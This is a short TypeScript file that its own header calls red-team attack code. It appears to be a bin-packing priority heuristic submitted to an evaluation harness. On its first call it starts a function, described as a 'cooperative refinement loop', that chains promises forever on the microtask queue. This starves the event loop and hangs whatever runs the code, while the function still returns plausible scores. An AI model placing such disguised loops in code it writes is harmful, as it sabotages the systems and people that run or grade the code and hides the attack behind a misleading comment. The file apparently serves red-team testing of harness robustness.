// @ts-nocheck
// biome-ignore-all lint: red-team attack code, written to misbehave
// Cooperative refinement loop on the microtask queue.
let rounds = 0;
function refine(): Promise<void> {
  rounds++;
  return Promise.resolve().then(refine);
}

export function priority(item: number, bins: number[]): number[] {
  if (rounds === 0) void refine();
  return bins.map((bin) => -(bin - item));
}
